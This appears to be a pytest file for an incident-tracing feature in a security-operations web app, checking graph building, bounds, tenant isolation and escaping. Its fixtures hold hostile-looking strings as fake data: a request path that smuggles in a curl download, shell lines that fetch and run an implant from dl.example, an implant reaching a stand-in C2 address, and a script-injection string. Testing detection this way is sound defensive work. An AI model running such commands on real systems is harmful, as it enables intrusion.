"""Incident Source Tracing: the graph of a known attack, its bounds, when it is
available, the pages that show it, and several events on one diagram."""

import json
import re
from datetime import timedelta

import pytest
from django.urls import reverse

from alerts.models import AlertEntity, AlertSource, Entity, EntityType, LogRecord, LogType
from events.models import EventAlert
from events.tracing import diagram
from events.tracing.limits import MAX_EVENTS_ON_ONE_GRAPH, TracingBounds
from events.tracing.tracer import parse_event_ids, trace_event, trace_events
from events.tracing.traces import Unavailable
from secops.scope import Scope
from tests import factories
from tests.conftest import ALERT_TIME

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

T0 = ALERT_TIME - timedelta(minutes=10)
IMPLANT_HASH = "9f" * 32
ATTACKER = "203.0.113.5"
C2 = "192.0.2.66"
DOWNLOAD_SERVER = "192.0.2.10"
EXPLOIT_PATH = "/exec?c=curl+-so+/tmp/kw+http://dl.example/kw"
JAVA = "java -jar /opt/app/app.jar"
SHELL = "/bin/sh -c curl -so /tmp/kw http://dl.example/kw"
CURL = "curl -so /tmp/kw http://dl.example/kw"
IMPLANT = "/tmp/kw -c 192.0.2.66:4443"


def at(seconds: float):
    return T0 + timedelta(seconds=seconds)


def scope_of(*accounts) -> Scope:
    return Scope(
        organisation_id=accounts[0].organisation_id,
        account_id=accounts[0].id,
        account_ids=frozenset(a.id for a in accounts),
    )


def log(account, asset, log_type, seconds, host_uuid=None, **fields):
    return factories.make_log_record(
        account,
        asset=asset,
        host_uuid=host_uuid or asset.uuid,
        log_type=log_type,
        time=at(seconds),
        fields=fields,
    )


def process(account, asset, seconds, pid, ppid, path, cmdline, parent_path, parent_cmdline):
    return log(
        account,
        asset,
        LogType.PROCESS,
        seconds,
        pid=pid,
        ppid=ppid,
        path=path,
        cmdline=cmdline,
        user="tomcat",
        parent_path=parent_path,
        parent_cmdline=parent_cmdline,
    )


def entity(account, entity_type, value, **attributes):
    return Entity.objects.create(
        account=account,
        type=entity_type,
        value=value,
        digest=Entity.digest_for(entity_type, value),
        attributes=attributes,
        malicious=False,
        first_seen_at=ALERT_TIME,
        last_seen_at=ALERT_TIME,
    )


def alert_in(event, asset, *entities, source=AlertSource.SECURITY_CENTER, role="attacker"):
    alert = factories.make_alert(event.account, asset=asset, source=source, occurred_at=at(300))
    EventAlert.objects.create(event=event, alert=alert)
    for item in entities:
        AlertEntity.objects.create(alert=alert, entity=item, role=role)
    return alert


def make_event(account, **fields):
    defaults = {"first_occurred_at": at(300), "last_occurred_at": at(420)}
    return factories.make_event(account, **{**defaults, **fields})


def web_exploit_logs(account, asset):
    """Web exploit -> java spawns sh -> curl downloads -> writes a file -> runs it
    -> the implant calls its C2 server; plus the host's unrelated activity."""
    log(
        account,
        asset,
        LogType.HTTP,
        0,
        method="GET",
        host="shop.example",
        path=EXPLOIT_PATH,
        status=200,
        src_ip=ATTACKER,
        user_agent="python-requests/2.31",
    )
    process(account, asset, 1, 3001, 2817, "/bin/sh", SHELL, "/usr/bin/java", JAVA)
    process(account, asset, 2, 3002, 3001, "/usr/bin/curl", CURL, "/bin/sh", SHELL)
    log(
        account,
        asset,
        LogType.DNS,
        2.1,
        pid=3002,
        process_path="/usr/bin/curl",
        domain="dl.example",
        answer=DOWNLOAD_SERVER,
    )
    log(
        account,
        asset,
        LogType.NETWORK,
        2.2,
        pid=3002,
        process_path="/usr/bin/curl",
        src_ip="10.0.0.5",
        src_port=40000,
        dst_ip=DOWNLOAD_SERVER,
        dst_port=80,
        direction="out",
    )
    log(
        account,
        asset,
        LogType.FILE,
        3,
        path="/tmp/kw",
        operation="write",
        pid=3002,
        process_path="/usr/bin/curl",
        hash=IMPLANT_HASH,
    )
    process(account, asset, 4, 3003, 3001, "/tmp/kw", IMPLANT, "/bin/sh", SHELL)
    log(
        account,
        asset,
        LogType.FILE,
        4.1,
        path="/tmp/kw",
        operation="execute",
        pid=3003,
        process_path="/tmp/kw",
        hash=IMPLANT_HASH,
    )
    for n, seconds in enumerate((5, 65, 125)):
        log(
            account,
            asset,
            LogType.NETWORK,
            seconds,
            pid=3003,
            process_path="/tmp/kw",
            src_ip="10.0.0.5",
            src_port=50000 + n,
            dst_ip=C2,
            dst_port=4443,
            direction="out",
        )
    # The host's ordinary life in the same minutes: none of it is in the diagram.
    process(
        account,
        asset,
        30,
        901,
        900,
        "/usr/sbin/logrotate",
        "logrotate /etc/logrotate.conf",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
    )
    log(
        account,
        asset,
        LogType.HTTP,
        31,
        method="GET",
        host="shop.example",
        path="/",
        status=200,
        src_ip="198.51.100.200",
        user_agent="Mozilla/5.0",
    )
    log(account, asset, LogType.LOGIN, 32, user="deploy", src_ip="10.0.0.9", result="success",
        method="publickey")  # fmt: skip


@pytest.fixture
def attack(tenancy):
    return make_attack(tenancy)


def make_attack(tenancy):
    """A traced web intrusion on web-01 of account A, with logs that must stay out."""
    account = tenancy.account_a
    web = factories.make_asset(account, uuid="host-web-01", name="web-01")
    db_host = factories.make_asset(account, uuid="host-db-01", name="db-01")
    web_exploit_logs(account, web)
    # Outside what may be read: another host, the window's edge, another account.
    log(
        account,
        db_host,
        LogType.NETWORK,
        60,
        pid=3003,
        process_path="/tmp/kw",
        dst_ip=C2,
        dst_port=4443,
        direction="out",
    )
    log(
        account,
        web,
        LogType.NETWORK,
        420 + 3600 + 60,
        pid=3003,
        process_path="/tmp/kw",
        dst_ip="192.0.2.99",
        dst_port=4443,
        direction="out",
    )
    other_asset = factories.make_asset(tenancy.account_b, uuid="host-web-01", name="web-01 (B)")
    log(tenancy.account_b, other_asset, LogType.NETWORK, 60, pid=3003, process_path="/tmp/kw",
        dst_ip="192.0.2.98", dst_port=4443, direction="out")  # fmt: skip

    event = make_event(account, name="Malicious file on web-01")
    alert = alert_in(
        event,
        web,
        entity(account, EntityType.FILE, IMPLANT_HASH, sha256=IMPLANT_HASH, path="/tmp/kw"),
        entity(account, EntityType.PROCESS, IMPLANT, pid=3003, path="/tmp/kw", cmdline=IMPLANT),
        entity(account, EntityType.IP, C2),
    )
    return {"event": event, "alert": alert, "web": web, "scope": scope_of(account)}


def labelled(graph):
    labels = {node["id"]: (node["type"], node["label"]) for node in graph.nodes}
    edges = {
        (labels[e["source"]][1], e["relation"], labels[e["target"]][1], e["count"])
        for e in graph.edges
    }
    return set(labels.values()), edges


def node(graph, label):
    return next(n for n in graph.nodes if n["label"] == label)


# --- the graph of a known attack -------------------------------------------------


def test_it_traces_a_web_exploit_to_the_implant_and_its_c2_server(attack):
    graph = trace_event(attack["event"], attack["scope"])

    nodes, edges = labelled(graph)
    assert graph.available, graph.reason
    assert nodes == {
        ("ip", ATTACKER),
        ("payload", f"GET {EXPLOIT_PATH}"),
        ("process", JAVA),
        ("process", SHELL),
        ("process", CURL),
        ("domain", "dl.example"),
        ("ip", DOWNLOAD_SERVER),
        ("file", "/tmp/kw"),
        ("process", IMPLANT),
        ("ip", C2),
    }
    assert edges == {
        (ATTACKER, "sent", f"GET {EXPLOIT_PATH}", 1),
        (f"GET {EXPLOIT_PATH}", "triggered", SHELL, 1),
        (JAVA, "spawned", SHELL, 1),
        (SHELL, "spawned", CURL, 1),
        (CURL, "resolved", "dl.example", 1),
        ("dl.example", "resolves to", DOWNLOAD_SERVER, 1),
        (CURL, "connected to", DOWNLOAD_SERVER, 1),
        (CURL, "wrote", "/tmp/kw", 1),
        ("/tmp/kw", "executed", IMPLANT, 1),
        (SHELL, "spawned", IMPLANT, 1),
        (IMPLANT, "connected to", C2, 3),
        # Given by the alert: the implant's command line names its C2 server.
        (IMPLANT, "names in its command line", C2, 1),
    }
    assert not graph.truncated
    assert graph.logs_read == 14  # web-01 of account A, within the window
    assert json.loads(json.dumps(graph.as_dict()))["nodes"] == graph.nodes


def test_it_marks_the_alerts_entities_and_keeps_their_evidence(attack):
    graph = trace_event(attack["event"], attack["scope"])

    malicious = {n["label"] for n in graph.nodes if n["malicious"]}
    assert malicious == {"/tmp/kw", IMPLANT, C2}
    implant = node(graph, IMPLANT)
    assert implant["alerts"] == [attack["alert"].id]
    assert implant["attributes"] | {"started": None} == {
        "host": "web-01",
        "pid": 3003,
        "ppid": 3001,
        "path": "/tmp/kw",
        "cmdline": IMPLANT,
        "user": "tomcat",
        "started": None,
    }
    assert node(graph, "/tmp/kw")["attributes"]["hashes"] == [IMPLANT_HASH]
    # The implant's own start, its execution and its three connections.
    assert implant["log_record_count"] == 5
    c2_edge = next(e for e in graph.edges if e["relation"] == "connected to" and e["count"] == 3)
    assert c2_edge["time"] == at(5).isoformat()
    assert len(c2_edge["log_records"]) == 3


def test_it_previews_the_records_behind_the_graph_and_behind_one_node(attack):
    graph = trace_event(attack["event"], attack["scope"])

    everything = graph.preview(1)
    of_c2 = graph.preview(1, node(graph, C2)["id"])

    # 11 records of the attack; the cron, web page and logon records are not behind it.
    assert [r["log_type"] for r in everything.items][:3] == ["http", "process", "process"]
    assert len(graph.records) == 11
    assert not everything.has_next
    assert [r["log_type"] for r in of_c2.items] == ["network", "network", "network"]


# --- bounds ----------------------------------------------------------------------


def test_it_keeps_the_nodes_nearest_to_the_alerts_entities_when_capped(attack):
    bounds = TracingBounds(max_nodes=4)

    graph = trace_event(attack["event"], attack["scope"], bounds)

    nodes, edges = labelled(graph)
    assert graph.truncated
    assert graph.node_total == 10
    assert graph.as_dict()["truncated"] is True
    # The three entities of the alert, then the nearest node that appeared first.
    assert nodes == {("file", "/tmp/kw"), ("process", IMPLANT), ("ip", C2), ("process", SHELL)}
    assert edges == {
        ("/tmp/kw", "executed", IMPLANT, 1),
        (SHELL, "spawned", IMPLANT, 1),
        (IMPLANT, "connected to", C2, 3),
        (IMPLANT, "names in its command line", C2, 1),
    }


def test_it_reads_no_more_log_records_than_its_limit(attack):
    bounds = TracingBounds(max_log_records=5)

    graph = trace_event(attack["event"], attack["scope"], bounds)

    assert graph.logs_read == 5
    assert graph.logs_truncated
    # The first five records end before the file was written: only the alert names it.
    assert node(graph, "/tmp/kw")["sources"] == ["alerts"]
    assert node(graph, "/tmp/kw")["log_record_count"] == 0
    assert graph.as_dict()["log_records"] == {
        "read": 5,
        "limit": 5,
        "truncated": True,
        "behind_graph": len(graph.records),
    }


def test_it_reads_only_the_context_window_around_the_event(attack):
    narrow = TracingBounds(context_window=timedelta(seconds=0))

    graph = trace_event(attack["event"], attack["scope"], narrow)

    # Between the first (300 s) and last (420 s) occurrence there are no logs of web-01:
    # the diagram is what the alert gives.
    assert graph.available
    assert not graph.from_logs
    assert graph.logs_note.startswith("No contextual logs were received from web-01 between")
    assert {n["label"] for n in graph.nodes} == {"/tmp/kw", IMPLANT, C2, "web-01"}
    assert all(n["sources"] == ["alerts"] for n in graph.nodes)


def test_it_needs_four_queries_to_build_a_graph(attack, django_assert_num_queries):
    with django_assert_num_queries(4):
        trace_event(attack["event"], attack["scope"])


# --- availability ------------------------------------------------------------------


def test_it_draws_only_the_alerts_of_an_event_without_security_center_alerts(tenancy):
    account = tenancy.account_a
    web = factories.make_asset(account, uuid="host-web-01", name="web-01")
    web_exploit_logs(account, web)
    event = make_event(account)
    alert_in(event, web, entity(account, EntityType.IP, C2), source=AlertSource.WAF)

    graph = trace_event(event, scope_of(account))

    nodes, edges = labelled(graph)
    assert graph.available and not graph.from_logs
    assert graph.logs_note == Unavailable.NOT_SECURITY_CENTER
    assert nodes == {("ip", C2), ("host", "web-01")}
    assert edges == {(C2, "attacked", "web-01", 1)}


def test_it_draws_the_entities_when_the_alerts_name_no_host(tenancy):
    account = tenancy.account_a
    event = make_event(account)
    alert_in(event, None, entity(account, EntityType.IP, C2))

    graph = trace_event(event, scope_of(account))

    assert graph.logs_note == Unavailable.NO_HOST
    assert labelled(graph) == ({("ip", C2)}, set())


def test_it_is_unavailable_without_alerts(tenancy):
    event = make_event(tenancy.account_a)

    graph = trace_event(event, scope_of(tenancy.account_a))

    assert not graph.available
    assert graph.nodes == []
    assert graph.reason == Unavailable.NO_ALERTS


def test_it_draws_the_alerts_when_the_logs_mention_none_of_the_entities(tenancy):
    account = tenancy.account_a
    web = factories.make_asset(account, uuid="host-web-01", name="web-01")
    web_exploit_logs(account, web)
    event = make_event(account)
    alert_in(event, web, entity(account, EntityType.IP, "198.51.100.77"))

    graph = trace_event(event, scope_of(account))

    assert graph.available and not graph.from_logs
    assert graph.logs_note.startswith("The contextual logs of web-01 between")
    assert "add nothing to what the alerts give" in graph.logs_note
    assert labelled(graph)[1] == {("198.51.100.77", "attacked", "web-01", 1)}
    # None of the host's own activity is drawn.
    assert graph.records == []


def test_it_traces_a_mixed_event_from_the_hosts_of_its_security_center_alerts(attack):
    waf_only_host = factories.make_asset(attack["event"].account, uuid="host-waf", name="waf")
    alert_in(attack["event"], waf_only_host, source=AlertSource.WAF)

    graph = trace_event(attack["event"], attack["scope"])

    assert graph.available
    assert [h["name"] for h in graph.as_dict()["events"][0]["hosts"]] == ["web-01"]


# --- the pages ---------------------------------------------------------------------


def test_it_shows_the_tracing_tab_with_the_diagram_and_its_records(tenancy, attack):
    client = tenancy.client_for(tenancy.alice)

    response = client.get(reverse("events:detail", args=[attack["event"].id]), {"tab": "tracing"})

    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-testid="tracing-graph"' in html
    assert 'id="tracing-data"' in html
    assert "vendor/cytoscape.min.js" in html
    assert "js/tracing.js" in html
    assert "Incident Source Tracing" in html
    assert len(response.context["preview"].items) == 11


def test_it_renders_only_the_tab_for_htmx(tenancy, attack):
    client = tenancy.client_for(tenancy.alice)

    response = client.get(
        reverse("events:detail", args=[attack["event"].id]),
        {"tab": "tracing"},
        headers={"hx-request": "true"},
    )

    html = response.content.decode()
    assert html.lstrip().startswith('<div id="tab"')
    assert 'data-testid="tracing-graph"' in html


def test_it_says_why_the_tab_has_no_diagram(tenancy):
    event = make_event(tenancy.account_a)
    client = tenancy.client_for(tenancy.alice)

    response = client.get(reverse("events:detail", args=[event.id]), {"tab": "tracing"})

    html = response.content.decode()
    assert 'data-testid="tracing-unavailable"' in html
    assert Unavailable.NO_ALERTS in html
    assert 'data-testid="tracing-graph"' not in html


def test_it_serves_the_graph_as_json(tenancy, attack):
    client = tenancy.client_for(tenancy.alice)

    response = client.get(reverse("events:tracing_json", args=[attack["event"].id]))

    data = response.json()
    assert response.status_code == 200
    assert data["available"] is True
    assert len(data["nodes"]) == 10
    assert len(data["edges"]) == 12
    assert data["from_logs"] is True
    assert {"id", "type", "label", "attributes", "malicious", "log_records", "sources"} <= set(
        data["nodes"][0]
    )
    assert {"source", "target", "relation", "time", "sources"} <= set(data["edges"][0])
    assert data["events"][0]["id"] == attack["event"].id


def test_it_pages_and_filters_the_log_preview(tenancy, attack, monkeypatch):
    monkeypatch.setattr(diagram, "PREVIEW_PER_PAGE", 5)
    client = tenancy.client_for(tenancy.alice)
    url = reverse("events:tracing_logs", args=[attack["event"].id])
    graph = trace_event(attack["event"], attack["scope"])

    third = client.get(url, {"page": 3})
    of_c2 = client.get(url, {"node": node(graph, C2)["id"]})

    assert len(third.context["preview"].items) == 1
    assert not third.context["preview"].has_next
    assert [r["log_type"] for r in of_c2.context["preview"].items] == ["network"] * 3


def test_it_names_log_records_by_reference_never_by_row_id(tenancy, attack):
    """Row ids of log records are one sequence for every tenant: shown, they
    would tell a tenant how much the others log."""
    graph = trace_event(attack["event"], attack["scope"])
    references = {digest[:16]: pk for pk, digest in LogRecord.objects.values_list("id", "digest")}

    shown = [ref for element in graph.nodes + graph.edges for ref in element["log_records"]]
    preview = graph.preview(1).items
    page = tenancy.client_for(tenancy.alice).get(
        reverse("events:tracing_logs", args=[attack["event"].id])
    )

    assert shown and set(shown) <= set(references)
    assert set(preview[0]) == {"ref", "time", "host", "log_type", "fields"}
    assert {row["ref"] for row in preview} <= set(references)
    cells = re.findall(r'<td class="mono">([^<]*)</td>', page.content.decode())
    assert {row["ref"] for row in preview} <= set(cells)
    assert not {str(pk) for pk in references.values()} & set(cells)


def test_it_escapes_what_the_attacker_wrote(tenancy):
    account = tenancy.account_a
    web = factories.make_asset(account, uuid="host-web-01", name="web-01")
    script = "<script>alert(1)</script>"
    process(account, web, 1, 4001, 1, "/bin/sh", f"sh -c {script}", "/sbin/init", "init")
    event = make_event(account)
    alert_in(event, web, entity(account, EntityType.PROCESS, f"sh -c {script}", pid=4001))
    client = tenancy.client_for(tenancy.alice)

    response = client.get(reverse("events:detail", args=[event.id]), {"tab": "tracing"})

    html = response.content.decode()
    assert script not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the records' preview
    data = json.loads(html.split('id="tracing-data" type="application/json">')[1].split("</")[0])
    assert any(script in n["label"] for n in data["nodes"])  # text for Cytoscape, as sent


# --- tenancy -----------------------------------------------------------------------


def test_it_hides_the_tracing_of_another_organisations_event(tenancy, attack):
    outsider = tenancy.client_for(tenancy.charlie)
    event_id = attack["event"].id
    own = make_event(tenancy.account_x)

    tab = outsider.get(reverse("events:detail", args=[event_id]), {"tab": "tracing"})
    as_json = outsider.get(reverse("events:tracing_json", args=[event_id]))
    logs = outsider.get(reverse("events:tracing_logs", args=[event_id]))
    multi = outsider.get(reverse("events:tracing_multi"), {"ids": f"{own.id},{event_id}"})
    multi_repeated = outsider.get(reverse("events:tracing_multi"), {"ids": [own.id, event_id]})

    assert [r.status_code for r in (tab, as_json, logs, multi, multi_repeated)] == [404] * 5


def test_it_lets_the_owner_trace_their_own_events_together(tenancy, attack):
    owner = tenancy.client_for(tenancy.alice)
    outsider = tenancy.client_for(tenancy.charlie)
    own = make_event(tenancy.account_x)

    response = owner.get(reverse("events:tracing_multi"), {"ids": str(attack["event"].id)})
    outsiders_own = outsider.get(reverse("events:tracing_multi"), {"ids": str(own.id)})

    assert response.status_code == 200
    assert outsiders_own.status_code == 200


def test_it_refuses_ids_that_are_not_event_ids(tenancy):
    client = tenancy.client_for(tenancy.alice)

    response = client.get(reverse("events:tracing_multi"), {"ids": "1,abc"})

    assert response.status_code == 404


def test_it_refuses_more_events_than_one_diagram_shows(tenancy):
    events = [make_event(tenancy.account_a) for _ in range(MAX_EVENTS_ON_ONE_GRAPH + 1)]
    client = tenancy.client_for(tenancy.alice)

    response = client.get(
        reverse("events:tracing_multi"), {"ids": ",".join(str(e.id) for e in events)}
    )

    assert response.status_code == 400
    assert "at most 10 events" in response.content.decode()


# --- several events on one diagram ---------------------------------------------------


@pytest.fixture
def two_intrusions(tenancy, attack):
    """A second host of account A whose implant calls the same C2 server."""
    account = tenancy.account_a
    web_02 = factories.make_asset(account, uuid="host-web-02", name="web-02")
    implant_2 = "/var/tmp/.x -c 192.0.2.66:4443"
    process(account, web_02, 200, 5003, 1, "/var/tmp/.x", implant_2, "/sbin/init", "init")
    log(account, web_02, LogType.NETWORK, 201, pid=5003, process_path="/var/tmp/.x", dst_ip=C2,
        dst_port=4443, direction="out")  # fmt: skip
    second = make_event(account, name="Outbound connection on web-02")
    alert_in(second, web_02, entity(account, EntityType.PROCESS, implant_2, pid=5003))
    return attack["event"], second


def test_it_joins_events_at_the_ip_they_share(two_intrusions, attack):
    first, second = two_intrusions

    graph = trace_events([first, second], attack["scope"])

    c2 = node(graph, C2)
    assert c2["events"] == [first.id, second.id]
    assert graph.joins == [{"node": c2["id"], "label": C2, "events": [first.id, second.id]}]
    labels = {n["id"]: n["label"] for n in graph.nodes}
    named = {
        (labels[e["source"]], labels[e["target"]])
        for e in graph.edges
        if e["relation"] == "named in its alerts"
    }
    assert (f"#{first.id} {first.name}", C2) in named
    assert (f"#{second.id} {second.name}", "/var/tmp/.x -c 192.0.2.66:4443") in named
    assert all(trace.available for trace in graph.traces)


def test_it_joins_events_whose_alerts_share_an_ip_without_any_logs(tenancy):
    account = tenancy.account_a
    host = factories.make_asset(account, uuid="host-app", name="app")
    shared = entity(account, EntityType.IP, "203.0.113.9")
    first, second = make_event(account), make_event(account)
    alert_in(first, host, shared, source=AlertSource.WAF)
    alert_in(second, host, shared, source=AlertSource.CLOUD_FIREWALL)

    graph = trace_events([first, second], scope_of(account))

    assert [join["label"] for join in graph.joins] == ["203.0.113.9"]
    assert [trace.reason for trace in graph.traces] == [Unavailable.NOT_SECURITY_CENTER] * 2


def test_it_shows_several_events_on_one_page(tenancy, two_intrusions):
    first, second = two_intrusions
    client = tenancy.client_for(tenancy.alice)

    response = client.get(reverse("events:tracing_multi"), {"ids": [first.id, second.id]})

    html = response.content.decode()
    assert response.status_code == 200
    assert 'data-testid="tracing-graph"' in html
    assert f"{C2}</span> joins events #{first.id}, #{second.id}" in html


def test_it_parses_event_ids_from_commas_and_repeats():
    assert parse_event_ids(["3,1", "2", "", "3"]) == [3, 1, 2]
    with pytest.raises(ValueError):
        parse_event_ids(["1,-2"])
